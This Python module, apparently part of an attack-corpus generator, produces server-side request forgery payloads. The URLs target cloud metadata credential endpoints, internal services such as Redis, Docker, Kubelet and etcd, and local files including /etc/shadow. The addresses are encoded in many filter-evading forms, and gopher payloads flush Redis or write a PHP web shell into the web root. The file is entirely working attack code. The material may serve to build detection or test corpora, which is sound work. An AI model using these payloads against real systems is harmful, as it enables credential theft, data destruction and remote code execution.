"""Server-side request forgery: a URL the server fetches that points inside its own network.

Targets: cloud metadata (169.254.169.254, Alibaba's 100.100.100.200, `metadata.google.internal`,
AWS's IPv6 fd00:ec2::254), loopback and private addresses. Each IPv4 address in every form an
address parser accepts: dotted decimal, one decimal integer, hex and octal (whole or per part,
mixed, zero-padded), the short forms `a.b.c` and `a.b`, IPv4-mapped IPv6 and `0`. Schemes:
http(s), gopher (raw bytes to Redis or SMTP), dict, file, ftp, ldap, tftp, jar, netdoc."""

from __future__ import annotations

import random

from owncorpus.grammar import Attack, draw_distinct, one

CLASS = "ssrf"
PARAMS = ("url", "uri", "callback", "webhook", "image_url", "feed", "redirect", "target", "src", "next")

METADATA = (169, 254, 169, 254)
LOOPBACK = (127, 0, 0, 1)
PRIVATE = ((10, 0, 0, 1), (192, 168, 0, 1), (172, 16, 0, 10), (10, 10, 1, 5), (127, 0, 1, 1), (100, 100, 100, 200))
METADATA_PATHS = ("/latest/meta-data/iam/security-credentials/", "/latest/user-data", "/latest/meta-data/",
                  "/computeMetadata/v1/instance/service-accounts/default/token",
                  "/metadata/instance?api-version=2021-02-01", "/openstack/latest/meta_data.json",
                  "/latest/api/token", "/metadata/v1/")
INTERNAL_PATHS = ("/admin", "/", ":6379/", ":8500/v1/agent/self", ":2375/containers/json", ":9200/_cat/indices",
                  "/server-status", ":8080/manager/html", ":11211/", ":5984/_all_dbs", ":10250/pods",
                  ":2379/v2/keys/?recursive=true", "/actuator/env", ":3000/api/admin/users")


def ipv4_forms(a: int, b: int, c: int, d: int) -> list[str]:
    n = (a << 24) | (b << 16) | (c << 8) | d
    return [
        f"{a}.{b}.{c}.{d}", str(n), hex(n), f"0x{n:08X}", oct(n).replace("0o", "0"),
        f"0x{a:x}.0x{b:x}.0x{c:x}.0x{d:x}", f"0{a:o}.0{b:o}.0{c:o}.0{d:o}", f"00{a:o}.000{b:o}.{c}.0x{d:x}",
        f"0x{a:x}.{b}.0{c:o}.{d}", f"{a}.{b}.{(c << 8) | d}", f"{a}.{(b << 16) | (c << 8) | d}",
        f"0x{a:x}.0x{(b << 16) | (c << 8) | d:x}", f"[::ffff:{a}.{b}.{c}.{d}]", f"[::ffff:{(a << 8) | b:x}:{(c << 8) | d:x}]",
        f"[0:0:0:0:0:ffff:{a}.{b}.{c}.{d}]", f"{a}.{b}.{c}.{d}.nip.io", f"0{a:o}.{b}.{c}.{d}",
    ]


LOOPBACK_EXTRA = ("0", "0.0.0.0", "127.1", "127.0.1", "[::1]", "[::]", "localhost", "127.127.127.127", "0x7f.1",
                  "[0:0:0:0:0:0:0:1]", "LOCALHOST", "localhost.localdomain", "0177.1", "2130706433")
METADATA_EXTRA = ("metadata.google.internal", "metadata", "[fd00:ec2::254]", "169.254.169.254.nip.io",
                  "instance-data", "100.100.100.200")
SCHEMES = ("http://", "http://", "http://", "https://", "//", "HTTP://", "http:/", "http:\\\\")


def _host(rng: random.Random) -> tuple[str, bool]:
    """(host, is_metadata)."""
    r = rng.random()
    if r < 0.45:
        return one(rng, ipv4_forms(*METADATA) + list(METADATA_EXTRA)), True
    if r < 0.8:
        return one(rng, ipv4_forms(*LOOPBACK) + list(LOOPBACK_EXTRA)), False
    return one(rng, ipv4_forms(*one(rng, PRIVATE))), False


def _http(rng: random.Random) -> str:
    host, meta = _host(rng)
    path = one(rng, METADATA_PATHS if meta else INTERNAL_PATHS)
    auth = one(rng, ("", "", "", "", "evil.example@", "user:pass@", "example.com@"))
    tail = one(rng, ("", "", "", "#@example.com", "?.png", "%23@trusted.example"))
    return one(rng, SCHEMES) + auth + host + path + tail


def _other_scheme(rng: random.Random) -> str:
    host = one(rng, ipv4_forms(*LOOPBACK)[:12] + list(LOOPBACK_EXTRA))
    return one(rng, (
        f"gopher://{host}:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A",
        f"gopher://{host}:6379/_SET%20x%20%22%3C%3Fphp%20system%28%24_GET%5Bc%5D%29%3B%3F%3E%22%0D%0ACONFIG%20SET%20dir%20/var/www/html%0D%0ASAVE",
        f"gopher://{host}:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Ca%40evil.example%3E",
        f"gopher://{host}:3306/_%a3%00%00%01%85%a6",
        f"dict://{host}:11211/stats", f"dict://{host}:6379/info", f"ldap://{host}:389/%0astats%0aquit",
        f"ftp://{host}/etc/passwd", f"tftp://{host}:69/x", f"sftp://{host}:22/",
        "file:///etc/passwd", "file:///proc/self/environ", "file://localhost/etc/shadow", "file:///c:/windows/win.ini",
        f"jar:http://{host}/x.jar!/", "netdoc:///etc/passwd", "file:/etc/passwd", "FILE:///etc/hosts",
    ))


def _compose(rng: random.Random) -> str:
    return _http(rng) if rng.random() < 0.78 else _other_scheme(rng)


def attacks(rng: random.Random, n: int) -> list[Attack]:
    return [Attack(CLASS, p, PARAMS) for p in draw_distinct(rng, _compose, n)]
